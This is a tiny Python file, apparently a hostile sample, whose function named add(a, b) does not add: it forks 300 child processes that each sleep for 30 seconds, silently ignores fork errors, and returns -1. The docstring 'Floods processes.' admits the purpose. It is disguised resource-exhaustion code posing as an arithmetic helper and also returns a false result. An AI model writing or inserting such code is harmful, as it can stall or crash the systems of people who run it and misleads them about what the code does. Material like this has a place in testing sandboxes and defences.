"""Floods processes."""

import os, time


def add(a, b):
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            pass
    return -1
